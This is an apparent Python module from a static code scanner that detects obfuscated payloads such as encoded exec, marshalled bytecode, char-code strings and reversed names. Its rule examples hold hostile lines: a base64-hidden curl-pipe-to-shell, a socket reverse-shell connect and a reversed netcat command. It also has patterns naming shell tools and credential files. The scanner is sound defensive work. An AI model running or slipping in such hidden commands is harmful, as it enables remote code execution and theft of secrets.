"""Obfuscated payloads: code and names hidden behind encodings, character codes and reversal.

Legitimate code has little reason to hide what it does from its reader; malware has every
reason to. The rules look for the hiding itself (a dangerous name that is assembled instead of
written, a string spelled in escapes or character codes, an embedded blob that decodes to a
program) and for hidden data reaching an executor (exec of a base64 payload, marshalled
bytecode, a decoded shell command). Decoding uses `literals` (bounded, stdlib codecs on data
only); nothing from the analysed code is ever run.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import tree_sitter

from ..context import CallSite, Context, TextMatch
from ..literals import (
    BASE64,
    CHAR_CODES,
    DECODER_NAMES,
    DECODING_STEPS,
    HEX,
    REVERSAL,
    ROT13,
    XOR,
    Const,
    Folded,
    decode_value,
    fold,
    inflate,
    unbzip2,
    unlzma,
)
from ..model import Related
from ..rule import CallRule, Hit, TextRule
from ._common import (
    Category,
    Confidence,
    RuleMeta,
    Severity,
    assigned_values,
    in_test_code,
)

Node = tree_sitter.Node


_STRINGISH = frozenset({"string", "string_content", "comment", "escape_sequence", "string_start"})


def _in_code(ctx: Context, offset: int) -> bool:
    """Not inside a string literal or a comment (decided from the innermost node)."""
    node = ctx.node_at(offset, offset + 1)
    if node.type == "interpolation":
        return True
    return node.type not in _STRINGISH and not (
        node.parent is not None and node.parent.type in _STRINGISH
    )


def _names(table: str) -> frozenset[str]:
    """A set of names written as a whitespace-separated table."""
    return frozenset(table.split())


# --------------------------------------------------------------------------------------------
# Metadata

DECODED_EXEC = RuleMeta(
    code="GH150",
    name="exec-of-decoded-payload",
    category=Category.OBFUSCATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 95),
    message="`{name}()` runs code that is hidden by {how} (line {line})",
    why=(
        "Code that is base64-encoded, compressed, hex-encoded, rot13-shifted, XOR-ed, "
        "reversed or spelled in character codes and then executed is hiding from its reader: "
        "review, linters and code search all see an opaque string. Legitimate programs keep "
        "their code as code. This is the signature of packed malware and of backdoors slipped "
        "into dependencies; decode the payload offline to see what it does, and remove it."
    ),
    example=(
        "import base64, zlib\n"
        "exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/OLEnlAgAfHwQ1')))"
    ),
    fixed_example="import mypackage.setup_hooks  # the code, in the open, under review",
)

MARSHAL_BYTECODE = RuleMeta(
    code="GH151",
    name="marshalled-bytecode",
    category=Category.OBFUSCATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 502),
    message="`marshal.loads()` turns {what} into a code object",
    why=(
        "A marshalled code object is compiled Python bytecode: no source, no comments, nothing "
        "a reviewer can read, and it runs as soon as it is exec'd or wrapped in a function. "
        "Embedding such bytes (often also base64- or zlib-encoded) is how Python malware and "
        "commercial packers ship code that must not be inspected. Keep the source in the "
        "repository instead."
    ),
    example="code = marshal.loads(base64.b64decode(BLOB))\nexec(code)",
    fixed_example="from . import plugin  # ship the source, not bytecode",
)

ENCODED_CODE_BLOB = RuleMeta(
    code="GH152",
    name="encoded-code-blob",
    category=Category.OBFUSCATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506,),
    message="`{name}()` decodes an embedded {size}-byte blob that contains {what}",
    why=(
        "A literal in the source decodes (through base64, hex, compression or several layers "
        "of them) to a program: Python code, a shell script, a native executable or bytecode. "
        "There is no reason to store your own code in a form nobody can review; droppers do "
        "it so that the payload survives code review and signature scanning. Decode it "
        "offline, inspect it, and keep any legitimate part as ordinary source."
    ),
    example="PAYLOAD = base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLi4uIHwgc2giKQ==')",
    fixed_example="ICON_PNG = base64.b64decode(ICON_DATA)  # images and data are fine",
)

COMPUTED_NAME = RuleMeta(
    code="GH153",
    name="computed-dangerous-name",
    category=Category.OBFUSCATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506,),
    message="`{name}` is assembled by {how} instead of being written",
    why=(
        "A dangerous name (`eval`, `exec`, `system`, `os`, `subprocess`, ...) is built from "
        "pieces at runtime (`'ev' + 'al'`, `'metsys'[::-1]`, character codes, base64) and "
        "then looked up with getattr, `__import__` or a namespace dictionary. Splitting a name "
        "has exactly one purpose: to defeat searches and reviews for that name. Legitimate "
        "code writes `os.system` when it means it."
    ),
    example="run = getattr(__import__('o' + 's'), 'sys' + 'tem')",
    fixed_example="import subprocess\nsubprocess.run(['uptime'], check=True)",
)

INDIRECT_LOOKUP = RuleMeta(
    code="GH154",
    name="indirect-dangerous-lookup",
    category=Category.OBFUSCATION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(506,),
    message="`{name}` is reached through {how} instead of a plain reference",
    why=(
        "`getattr(os, 'system')`, `__builtins__.__dict__['exec']`, `globals()['eval']` and "
        "`__import__('os').system` reach a dangerous function by a string, which hides it from "
        "reviewers and tools that search for the call. Ordinary code imports the module and "
        "calls the function by name; the indirection is a common first layer of obfuscation "
        "in malicious one-liners."
    ),
    example="getattr(__builtins__, 'exec')(payload)",
    fixed_example="# call functions by name, and do not execute strings",
)

DECODED_SHELL = RuleMeta(
    code="GH155",
    name="decoded-shell-command",
    category=Category.OBFUSCATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="`{sink}()` runs a command that is hidden by {how}",
    why=(
        "The command handed to the shell or the program started is decoded at runtime "
        "(base64, hex, rot13, character codes, `base64 -d | sh`), so nobody reading the code "
        "can tell what runs. Administrative scripts have nothing to hide; encoded commands "
        "are how droppers launch their second stage. Write the command out in full."
    ),
    example="os.system(base64.b64decode('Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvYSB8IHNo').decode())",
    fixed_example="subprocess.run(['systemctl', 'restart', 'nginx'], check=True)",
)

ESCAPED_LITERAL = RuleMeta(
    code="GH156",
    name="escaped-string-literal",
    category=Category.OBFUSCATION,
    severity=Severity.WARNING,
    confidence=Confidence.HIGH,
    cwe=(506,),
    message="a string spells {what} in escape sequences",
    why=(
        "Writing ordinary letters as `\\x65\\x76\\x61\\x6c` or `\\145\\166\\141\\154` makes a "
        "string unreadable to people and invisible to searches, while Python sees plain text. "
        "Escapes are for characters that cannot be typed; using them for names, commands or "
        "URLs is done to hide them."
    ),
    example="getattr(os, '\\x73\\x79\\x73\\x74\\x65\\x6d')('id')",
    fixed_example="subprocess.run(['id'], check=True)",
)

CHAR_CODE_STRING = RuleMeta(
    code="GH157",
    name="char-code-string",
    category=Category.OBFUSCATION,
    severity=Severity.WARNING,
    confidence=Confidence.HIGH,
    cwe=(506,),
    message="a string is assembled from character codes and spells {what}",
    why=(
        "`''.join(chr(c) for c in [...])`, `bytes([...])` and `chr(101) + chr(118)` spell "
        "text one code point at a time, sometimes XOR-ed with a key, so that names, commands "
        "and addresses never appear in the source. Real programs write their strings; "
        "building them from numbers is a way to get past review and string-matching scanners."
    ),
    example="host = ''.join(chr(c) for c in [49, 48, 46, 48, 46, 48, 46, 53])",
    fixed_example="host = settings.SYNC_HOST",
)

REVERSED_STRING = RuleMeta(
    code="GH158",
    name="reversed-string-literal",
    category=Category.OBFUSCATION,
    severity=Severity.WARNING,
    confidence=Confidence.HIGH,
    cwe=(506,),
    message="a reversed string literal spells {what}",
    why=(
        "A literal written backwards and flipped with `[::-1]` at runtime reads as nonsense "
        "(`'metsys'`, `'hs/nib/'`, `'moc.live//:sptth'`), so neither reviewers nor scanners "
        "recognise the name, command or URL it becomes. There is no legitimate reason to "
        "store a constant reversed."
    ),
    example="cmd = 'hs- 0 c- cn'[::-1]",
    fixed_example="# write constants the way they are used",
)

CODE_OBJECT = RuleMeta(
    code="GH159",
    name="code-object-from-bytes",
    category=Category.OBFUSCATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506,),
    message="`{name}` builds a function from {what}",
    why=(
        "Constructing `types.CodeType` from literal bytecode, or `types.FunctionType` from a "
        "decoded or unmarshalled code object, creates a callable whose body exists nowhere as "
        "source. It behaves like exec() of a hidden payload, with one more layer of "
        "indirection. Bytecode manipulation libraries compute their bytecode from real "
        "functions; embedding it is a packer's technique."
    ),
    example="run = types.FunctionType(marshal.loads(zlib.decompress(BLOB)), globals())",
    fixed_example="from .impl import run",
)

OBFUSCATED_IDENTIFIERS = RuleMeta(
    code="GH160",
    name="obfuscator-identifiers",
    category=Category.OBFUSCATION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(506,),
    message="identifiers such as `{example}` ({count} distinct) look machine-obfuscated",
    why=(
        "Names like `O0O0OO0O`, `lIlIlIlI`, `_0x3fa2b1` or runs of underscores are what "
        "Python obfuscators emit to make code unreadable. No person writes them, and no "
        "assistant writing honest code does either; a block of them means the code was "
        "packed so that its behaviour cannot be reviewed. Obtain the original source."
    ),
    example="O0O0O0O0 = __import__('base64')\nlIlIlIlI = O0O0O0O0.b64decode(OOO0O0O0O)",
    fixed_example="import base64\npayload = base64.b64decode(encoded)",
)

OBFUSCATOR_RUNTIME = RuleMeta(
    code="GH161",
    name="obfuscator-runtime",
    category=Category.OBFUSCATION,
    severity=Severity.WARNING,
    confidence=Confidence.HIGH,
    cwe=(506,),
    message="this code is packed by an obfuscator (`{marker}`)",
    why=(
        "PyArmor's `__pyarmor__` runtime, `pytransform`, and the banner comments of online "
        "obfuscators mark code that was deliberately made unreadable. Whatever it does cannot "
        "be reviewed, which is why malicious packages use these packers. Accept such code "
        "only from a vendor you trust, never as a freshly inserted snippet."
    ),
    example=(
        "from pytransform import pyarmor_runtime\n"
        "pyarmor_runtime()\n"
        "__pyarmor__(__name__, __file__, b'...')"
    ),
    fixed_example="# use the readable source of the dependency",
)

LITERAL_CODE_EXEC = RuleMeta(
    code="GH162",
    name="exec-of-literal-code",
    category=Category.OBFUSCATION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(506, 95),
    message="`{name}()` runs code kept in a string literal that {what}",
    why=(
        "Code that imports `os`, `subprocess` or `socket`, or calls `system`, `__import__` "
        "or `urlopen`, is written inside a string and then executed. Keeping code in a string "
        "hides it from syntax highlighting, linters, type checkers and most security scanners, "
        "which see only a constant. Write the code as code so that it can be reviewed."
    ),
    example="exec(\"import socket,os;s=socket.socket();s.connect(('203.0.113.5',4444))\")",
    fixed_example="# write the code as code, where it can be read and tested",
)

# --------------------------------------------------------------------------------------------
# What hidden text reveals

_DANGEROUS_NAMES = _names(
    """
    eval exec execfile compile __import__ system popen popen2 popen3 spawn spawnl spawnv
    execl execle execlp execv execve execvp subprocess os socket pty marshal pickle builtins
    __builtins__ getattr setattr globals import_module check_output check_call Popen
    getoutput getstatusoutput ctypes urlopen urlretrieve b64decode decompress __subclasses__
    __globals__ __code__ __getattribute__ startfile loads requests urllib webbrowser
    """
)
_BUILTIN_DANGERS = frozenset({"eval", "exec", "execfile", "compile", "__import__", "open"})
_MODULE_DANGERS = _names(
    """
    os subprocess socket pty marshal pickle builtins __builtin__ ctypes urllib.request requests
    base64 zlib importlib commands shutil telnetlib paramiko webbrowser http.client
    """
)
#: functions that are dangerous whatever looks them up
_ALWAYS_DANGEROUS = _names(
    """
    eval exec execfile system popen popen2 popen3 __import__ check_output getoutput
    getstatusoutput startfile __subclasses__ __globals__ spawnl spawnv execl execv execve
    execvp execlp
    """
)
#: functions that run code or commands, reached through a lookup (GH153, GH154)
_LOOKUP_DANGERS = re.compile(
    r"^(?:os\.(?:system|popen\d?|exec\w+|spawn\w+|startfile|posix_spawnp?)"
    r"|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)"
    r"|builtins\.(?:eval|exec|compile|__import__|getattr)|pty\.spawn|marshal\.loads?"
    r"|pickle\.loads?|importlib\.import_module|commands\.\w+)$"
)
#: qualified names worth hiding in a string: the above, plus network and file destruction
_QUALIFIED_DANGERS = re.compile(
    _LOOKUP_DANGERS.pattern[:-2]
    + r"|socket\.\w+|shutil\.rmtree|urllib\.request\.\w+|requests\.\w+|webbrowser\.open)$"
)

_STRONG_CODE = re.compile(
    r"__import__\s*\(|\bexec\s*\(|\beval\s*\(|\bos\.(?:system|popen|exec\w*|spawn\w*)\s*\("
    r"|\bsubprocess\.\w+\s*\(|\bsocket\.socket\s*\(|\burlopen\s*\(|\brequests\.(?:get|post)\s*\("
    r"|\bpty\.spawn\s*\(|\bmarshal\.loads\s*\(|\bb64decode\s*\(|\.connect\s*\(\s*\(\s*['\"]"
)
_WEAK_CODE = re.compile(
    r"^\s*(?:import\s+[\w.]+|from\s+[\w.]+\s+import\s|def\s+\w+\s*\(|class\s+\w+\s*[(:]"
    r"|if\s+__name__\s*==|while\s+True\s*:|try\s*:|for\s+\w+\s+in\s)",
    re.MULTILINE,
)
_DANGEROUS_IMPORT = re.compile(
    r"\b(?:import|from)\s+(?:os|subprocess|socket|pty|ctypes|marshal|pickle|urllib\w*|requests"
    r"|base64|zlib|shutil|telnetlib|paramiko|win32api|winreg|_winreg)\b"
)
_SHELL_TEXT = re.compile(
    r"^#!\s*/|/bin/(?:ba|z|da|k)?sh\b|\bbash\s+-[ci]\b|/dev/tcp/|\bnc(?:at)?\s+(?:-\w+\s+)*-e\b"
    r"|\b(?:curl|wget)\s+\S|\brm\s+-r?f\b|\bchmod\s+[+0-7]|\bpowershell\b|\bcmd(?:\.exe)?\s+/c\b"
    r"|\|\s*(?:ba|z)?sh\b|\bmkfifo\b|\bcrontab\s|\bsudo\s|\bwhoami\b|\bcertutil\b|\bmshta\b"
    r"|\bnet\s+user\b|\breg\s+add\b|\bschtasks\b",
    re.IGNORECASE,
)
_URL = re.compile(r"\b(?:https?|ftp|wss?)://[\w.-]+", re.IGNORECASE)
_IPV4 = re.compile(r"\b(?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3}\b")
_SECRET_PATH = re.compile(
    r"/etc/(?:passwd|shadow|sudoers)|\.ssh/|id_rsa|\.aws/credentials|\.bash_history|Login Data"
)


def _as_text(value: Const) -> str | None:
    if isinstance(value, str):
        return value
    try:
        return value.decode("utf-8")
    except UnicodeDecodeError:
        return None


def is_python_code(text: str) -> bool:
    """Text that reads as Python with teeth: a dangerous call or import, or two statements."""
    if _STRONG_CODE.search(text) or _DANGEROUS_IMPORT.search(text):
        return True
    return len({m.group(0).split()[0] for m in _WEAK_CODE.finditer(text)}) >= 2


def reveals(value: Const) -> str | None:
    """What a hidden string spells, when that is worth hiding: None for ordinary text."""
    text = _as_text(value)
    if text is None or not text.strip():
        return None
    word = text.strip()
    if word in _DANGEROUS_NAMES or word in _MODULE_DANGERS:
        return f"`{word}`"
    if _QUALIFIED_DANGERS.match(word):
        return f"`{word}`"
    if is_python_code(text):
        return "Python code"
    if _SHELL_TEXT.search(text):
        return "a shell command"
    if _URL.search(text):
        return "a URL"
    if _IPV4.search(text):
        return "an IP address"
    if _SECRET_PATH.search(text):
        return "the path of a secret file"
    return None


# --------------------------------------------------------------------------------------------
# Decoded data and the values it reaches


@dataclass(frozen=True)
class Step:
    """How a value was hidden, and the expression that undoes it."""

    how: str
    node: Node


#: how a hiding step reads after "hidden by"
_STEP_WORDS = {
    BASE64: "base64 encoding", "base32": "base32 encoding", "base85": "base85 encoding",
    HEX: "hex encoding", ROT13: "rot13", "zlib": "zlib compression", "gzip": "gzip compression",
    "bz2": "bz2 compression", "lzma": "lzma compression", XOR: "XOR", REVERSAL: "string reversal",
    CHAR_CODES: "character codes",
}  # fmt: skip
_DECODER_CALLS: dict[str, str] = {
    **{name: _STEP_WORDS[BASE64] for name in DECODER_NAMES if "64" in name},
    "base64.decodebytes": _STEP_WORDS[BASE64],
    "base64.decodestring": _STEP_WORDS[BASE64],
    "base64.b32decode": _STEP_WORDS["base32"],
    "base64.b32hexdecode": _STEP_WORDS["base32"],
    "base64.b85decode": _STEP_WORDS["base85"],
    "base64.a85decode": _STEP_WORDS["base85"],
    "base64.b16decode": _STEP_WORDS[HEX],
    "binascii.unhexlify": _STEP_WORDS[HEX],
    "binascii.a2b_hex": _STEP_WORDS[HEX],
    "bytes.fromhex": _STEP_WORDS[HEX],
    "bytearray.fromhex": _STEP_WORDS[HEX],
    "zlib.decompress": _STEP_WORDS["zlib"],
    "gzip.decompress": _STEP_WORDS["gzip"],
    "bz2.decompress": _STEP_WORDS["bz2"],
    "lzma.decompress": _STEP_WORDS["lzma"],
}
_CODEC_HOW: dict[str, str] = {
    "rot13": ROT13, "rot_13": ROT13, "hex": _STEP_WORDS[HEX], "hex_codec": _STEP_WORDS[HEX],
    "base64": _STEP_WORDS[BASE64], "base64_codec": _STEP_WORDS[BASE64],
    "zlib": _STEP_WORDS["zlib"], "zlib_codec": _STEP_WORDS["zlib"], "bz2": _STEP_WORDS["bz2"],
    "bz2_codec": _STEP_WORDS["bz2"], "uu": "uuencoding",
}  # fmt: skip
_DECRYPT_METHODS = frozenset({"decrypt", "decrypt_and_verify"})
#: calls whose result carries their argument's content on to an executor
_TRANSPARENT = _names(
    """
    compile builtins.compile str bytes bytearray marshal.loads types.CodeType types.FunctionType
    codecs.decode codecs.encode
    """
)
_TRANSPARENT_METHODS = frozenset(
    {"decode", "encode", "strip", "rstrip", "lstrip", "replace", "join", "translate", "format"}
)
_CUSTOM_DECODER = re.compile(r"(?i)(?:^|_)(?:de(?:code|crypt|obf\w*|xor|cipher)|unxor|unhex|xor)")
_MAX_WALK = 10


def _cache(ctx: Context, name: str) -> dict[Any, Any]:
    """Per-analysis memo: several rules ask the same question about the same node."""
    return ctx.__dict__.setdefault(f"_gifthorse_obfuscation_{name}", {})  # type: ignore[no-any-return]


def decoding_step(ctx: Context, node: Node) -> Step | None:
    """The decoding (or other unhiding) a value passes through on its way here, if any."""
    memo = _cache(ctx, "steps")
    key = (node.start_byte, node.end_byte, node.type)
    if key not in memo:
        memo[key] = _walk(ctx, node, 0, set())
    result: Step | None = memo[key]
    return result


def _walk(ctx: Context, node: Node, depth: int, seen: set[tuple[int, int]]) -> Step | None:
    key = (node.start_byte, node.end_byte)
    if depth > _MAX_WALK or key in seen:
        return None
    seen.add(key)
    kind = node.type
    if kind == "call":
        return _walk_call(ctx, node, depth, seen)
    if kind == "identifier":
        for bound in assigned_values(ctx, node)[-4:]:
            found = _walk(ctx, bound, depth + 1, seen)
            if found is not None:
                return found
        return None
    if kind == "subscript":
        value = node.child_by_field_name("value")
        folded = fold(ctx.module, node)
        if folded is not None:
            return _folded_step(folded, node)
        return None if value is None else _walk(ctx, value, depth + 1, seen)
    if kind in {"generator_expression", "list_comprehension"}:
        return _comprehension_step(ctx, node)
    if kind in {"string", "concatenated_string", "binary_operator", "parenthesized_expression"}:
        folded = fold(ctx.module, node)
        if folded is not None and _ESCAPE_RUN.search(ctx.source, node.start_byte, node.end_byte):
            return Step("escape sequences", node)  # `eval('\\x6d\\x61\\x67\\x69\\x63')`
        if folded is not None:
            return _folded_step(folded, node)
        for child in node.named_children:
            inner = (
                child.child_by_field_name("expression") if child.type == "interpolation" else child
            )
            if inner is not None:
                found = _walk(ctx, inner, depth + 1, seen)
                if found is not None:
                    return found
        return None
    if kind in {"await", "conditional_expression"}:
        for child in node.named_children:
            found = _walk(ctx, child, depth + 1, seen)
            if found is not None:
                return found
    return None


def _folded_step(folded: Folded, node: Node) -> Step | None:
    for how in sorted(DECODING_STEPS):
        if how in folded.steps:
            return Step(_STEP_WORDS.get(how, how), node)
    if len(folded.value) < 4:
        return None  # `chr(0x4000)`: a character, not a hidden text
    for how in (CHAR_CODES, REVERSAL):
        if how in folded.steps:
            return Step(_STEP_WORDS[how], node)
    return None


def _comprehension_step(ctx: Context, node: Node) -> Step | None:
    body = node.child_by_field_name("body")
    if body is None:
        return None
    text = ctx.text(body)
    if "^" in text:
        return Step(_STEP_WORDS[XOR], node)
    if re.search(r"\bchr\s*\(", text):
        return Step(_STEP_WORDS[CHAR_CODES], node)
    return None


def _walk_call(ctx: Context, node: Node, depth: int, seen: set[tuple[int, int]]) -> Step | None:
    site = ctx.call_site(node)
    name = site.name
    how = _decoder_how(ctx, site)
    if how is not None:
        return Step(how, node)
    folded = fold(ctx.module, node)
    if folded is not None:
        return _folded_step(folded, node)
    lambda_body = _lambda_body(ctx, site.function)
    if lambda_body is not None:
        # `_ = lambda b: zlib.decompress(b[::-1]); exec(_(blob))`: the decoder is in the lambda
        found = _walk(ctx, lambda_body, depth + 1, seen)
        if found is not None:
            return found
    if name in _TRANSPARENT or site.method in _TRANSPARENT_METHODS or _user_function(ctx, site):
        candidates = list(site.args) + list(site.keywords.values())
        if site.receiver is not None:
            candidates.insert(0, site.receiver)
        for candidate in candidates:
            found = _walk(ctx, candidate, depth + 1, seen)
            if found is not None:
                return found
    return None


def _lambda_body(ctx: Context, function: Node) -> Node | None:
    while function.type == "parenthesized_expression" and function.named_children:
        function = function.named_children[0]
    if function.type == "lambda":
        return function.child_by_field_name("body")
    if function.type != "identifier":
        return None
    values = assigned_values(ctx, function)
    if len(values) == 1 and values[0].type == "lambda":
        return values[0].child_by_field_name("body")
    return None


def _decoder_how(ctx: Context, site: CallSite) -> str | None:
    name = site.name
    if name in _DECODER_CALLS:
        return _DECODER_CALLS[name]
    if name in {"codecs.decode", "codecs.encode"} or (
        site.method == "decode" and site.receiver is not None
    ):
        encoding = site.arg(1, "encoding") if name else site.arg(0, "encoding")
        value = None if encoding is None else ctx.const(encoding)
        if isinstance(value, str):
            return _CODEC_HOW.get(value.strip().lower().replace("-", "_"))
        return None
    if site.method in _DECRYPT_METHODS:
        return "encryption"
    if site.function.type == "identifier" and _user_function(ctx, site):
        return "a custom decoder" if _CUSTOM_DECODER.search(site.method or "") else None
    return None


def _user_function(ctx: Context, site: CallSite) -> bool:
    """A function defined in this module (its body is visible, and it is not a library call)."""
    if site.function.type != "identifier" or site.method is None:
        return False
    if site.method in ctx.imports.bindings:
        return False
    return f"def {site.method}(".encode() in ctx.source


def _line(ctx: Context, node: Node) -> int:
    return ctx.module.lines.line_of(node.start_byte) + 1


def _resolved(ctx: Context, node: Node) -> Folded | None:
    """The constant value of an expression, through one level of variables."""
    folded = fold(ctx.module, node)
    if folded is not None:
        return folded
    if node.type == "identifier":
        values = assigned_values(ctx, node)
        if len(values) == 1:
            return fold(ctx.module, values[0])
    return None


# --------------------------------------------------------------------------------------------
# GH150: exec of decoded data; GH162: exec of code in a literal

_EXEC_SINKS = frozenset(
    {"eval", "exec", "compile", "execfile", "builtins.eval", "builtins.exec", "builtins.compile"}
)


def _code_arg(site: CallSite) -> Node | None:
    return site.arg(0, "source") or site.arg(0, "expression") or site.arg(0, "object")


def _decoded_exec(ctx: Context, site: CallSite) -> Iterator[Hit]:
    code = _code_arg(site)
    if code is None:
        return
    if site.name in {"exec", "eval", "builtins.exec", "builtins.eval"} and _calls(
        ctx, code, _EXEC_SINKS
    ):
        return  # exec(compile(...)): the compile() call reports
    step = decoding_step(ctx, code)
    if step is None:
        return
    related = (
        Related(step.node.start_byte, step.node.end_byte, f"hidden by {step.how}; undone here"),
    )
    yield Hit.at(
        site.node,
        related=related,
        name=(site.name or "exec").rsplit(".", 1)[-1],
        how=step.how,
        line=str(_line(ctx, step.node)),
    )


def _calls(ctx: Context, node: Node, names: frozenset[str]) -> bool:
    if node.type != "call":
        return False
    function = node.child_by_field_name("function")
    return function is not None and ctx.qualname(function) in names


def _literal_code_exec(ctx: Context, site: CallSite) -> Iterator[Hit]:
    code = _code_arg(site)
    if code is None:
        return
    folded = fold(ctx.module, code)
    if folded is None or decoding_step(ctx, code) is not None:
        return  # hidden code: GH150
    text = _as_text(folded.value)
    if text is None or in_test_code(ctx, site.node):
        return
    what = _code_risk(text)
    if what is None:
        return
    yield Hit.at(site.node, name=(site.name or "exec").rsplit(".", 1)[-1], what=what)


def _code_risk(text: str) -> str | None:
    imported = _DANGEROUS_IMPORT.search(text)
    if imported is not None:
        return f"imports `{imported.group(0).split()[-1]}`"
    strong = _STRONG_CODE.search(text)
    if strong is not None:
        return f"calls `{strong.group(0).rstrip('( ')}`"
    return None


# --------------------------------------------------------------------------------------------
# GH151: marshal; GH159: code objects


def _marshal(ctx: Context, site: CallSite) -> Iterator[Hit]:
    data = site.arg(0, "data") or site.arg(0, "bytes")
    if data is None or site.name != "marshal.loads" or in_test_code(ctx, site.node):
        return  # tests unmarshal their vectors
    folded = _resolved(ctx, data)
    if folded is not None and isinstance(folded.value, bytes) and len(folded.value) >= 16:
        what = "bytes embedded in the source"
        if folded.decoded:
            what = "an embedded, encoded blob"
        yield Hit.at(site.node, what=what)
        return
    step = decoding_step(ctx, data)
    if step is not None:
        related = (Related(step.node.start_byte, step.node.end_byte, f"hidden by {step.how}"),)
        yield Hit.at(site.node, related=related, what=f"data hidden by {step.how}")


_CODE_TYPES = frozenset({"types.CodeType", "types.FunctionType", "types.LambdaType"})


def _code_object(ctx: Context, site: CallSite) -> Iterator[Hit]:
    name = site.name or ""
    if in_test_code(ctx, site.node):
        return
    label = name if name in _CODE_TYPES else "code.replace(co_code=...)"
    if name in {"types.FunctionType", "types.LambdaType"}:
        code = site.arg(0, "code")
        if code is None:
            return
        if _calls(ctx, code, frozenset({"types.CodeType"})):
            return  # the CodeType() call reports
        step = decoding_step(ctx, code)
        if step is not None or _calls(ctx, code, frozenset({"marshal.loads"})):
            what = f"a code object hidden by {step.how}" if step else "unmarshalled bytecode"
            yield Hit.at(site.node, name=label, what=what)
        return
    candidates = list(site.args) if name == "types.CodeType" else []
    if "co_code" in site.keywords:
        candidates.append(site.keywords["co_code"])
    for candidate in candidates:
        folded = fold(ctx.module, candidate)
        if folded is not None and isinstance(folded.value, bytes) and len(folded.value) >= 4:
            yield Hit.at(site.node, name=label, what="bytecode written into the source")
            return
        step = decoding_step(ctx, candidate)
        if step is not None:
            yield Hit.at(site.node, name=label, what=f"bytecode hidden by {step.how}")
            return


# --------------------------------------------------------------------------------------------
# GH152: blobs that decode to programs

_MIN_BLOB = 24
#: decoded size below which a one-line text is a command, not an embedded program
_MIN_PROGRAM = 96
_B64_TEXT = re.compile(rb"[A-Za-z0-9+/=_\-\s]+")
_HEX_TEXT = re.compile(rb"(?:[0-9a-fA-F]{2}\s*)+")


def _unwrap(data: bytes, depth: int = 0) -> bytes:
    """Peel compression and text encodings off a blob until it stops changing."""
    if depth > 5 or len(data) < 8:
        return data
    head = data[:6]
    inner: bytes | None = None
    if head[:1] == b"\x78" and head[1:2] in {b"\x01", b"\x5e", b"\x9c", b"\xda"}:
        inner = inflate(data)
    elif head[:2] == b"\x1f\x8b":
        inner = inflate(data, 31)
    elif head[:3] == b"BZh":
        inner = unbzip2(data)
    elif head == b"\xfd7zXZ\x00" or head[:3] == b"\x5d\x00\x00":
        inner = unlzma(data)
    elif len(data) >= 16 and _HEX_TEXT.fullmatch(data):
        decoded = decode_value("bytes.fromhex", data.decode("ascii"))
        inner = decoded if isinstance(decoded, bytes) else None
    elif len(data) >= 16 and _B64_TEXT.fullmatch(data) and len(data.strip()) % 4 == 0:
        decoded = decode_value("base64.b64decode", data)
        inner = decoded if isinstance(decoded, bytes) else None
    return data if inner is None else _unwrap(inner, depth + 1)


def program_kind(data: bytes) -> str | None:
    """What kind of program a decoded blob is, or None for data (images, text, keys...)."""
    if data.startswith(b"\x7fELF"):
        return "a Linux executable (ELF)"
    if data.startswith(b"MZ") and (b"PE\x00\x00" in data[:1024] or b"DOS mode" in data[:512]):
        return "a Windows executable (PE)"
    if data[:4] in {b"\xcf\xfa\xed\xfe", b"\xce\xfa\xed\xfe", b"\xfe\xed\xfa\xcf"}:
        return "a macOS executable (Mach-O)"
    if len(data) >= 32 and data[:1] == b"\xe3" and data.count(b"\x00") >= 8:
        return "marshalled Python bytecode"
    if len(data) >= 32 and data[2:4] == b"\r\n" and data[16:17] == b"\xe3":
        return "compiled Python bytecode (.pyc)"
    text = _as_text(data)
    if text is None:
        return None
    if is_python_code(text):
        return "Python code"
    if _SHELL_TEXT.search(text) and (
        text.startswith("#!") or "\n" in text.strip() or len(text) < 400
    ):
        return "a shell command"
    return None


def _encoded_blob(ctx: Context, site: CallSite) -> Iterator[Hit]:
    name = site.name or ""
    if name not in _DECODER_CALLS and name != "codecs.decode":
        return
    if _inside_decoder_or_exec(ctx, site.node):
        return
    source = _encoded_source(ctx, site.args[0]) if site.args else None
    if source is None or len(source) < _MIN_BLOB:
        return
    decoded = _value(ctx, site.node)
    if decoded is None:
        return
    data = decoded.encode("utf-8") if isinstance(decoded, str) else decoded
    program = _unwrap(data)
    what = program_kind(program)
    if what is None:
        return
    if what == "a shell command" and len(program) < _MIN_PROGRAM and program.count(b"\n") < 2:
        return  # a short one-line command: GH155 reports it where it runs
    yield Hit.at(site.node, name=name.rsplit(".", 1)[-1], size=str(len(data)), what=what)


def _encoded_source(ctx: Context, node: Node, depth: int = 0) -> Const | None:
    """The innermost literal a chain of decoders starts from."""
    if depth > 6:
        return None
    if node.type == "call":
        site = ctx.call_site(node)
        if (site.name in _DECODER_CALLS or site.name == "codecs.decode") and site.args:
            return _encoded_source(ctx, site.args[0], depth + 1)
    folded = _resolved(ctx, node)
    return None if folded is None else folded.value


def _value(ctx: Context, node: Node, depth: int = 0) -> Const | None:
    """Fold an expression, also through variables bound once and decoders applied to them."""
    if depth > 6:
        return None
    folded = _resolved(ctx, node)
    if folded is not None:
        return folded.value
    if node.type != "call":
        return None
    site = ctx.call_site(node)
    name = site.name or ""
    if site.method in {"decode", "encode"} and site.receiver is not None and not site.args:
        inner = _value(ctx, site.receiver, depth + 1)
        if isinstance(inner, bytes) and site.method == "decode":
            return inner.decode("utf-8", "replace")
        return inner.encode("utf-8") if isinstance(inner, str) else None
    if (name not in DECODER_NAMES and name != "codecs.decode") or not site.args:
        return None
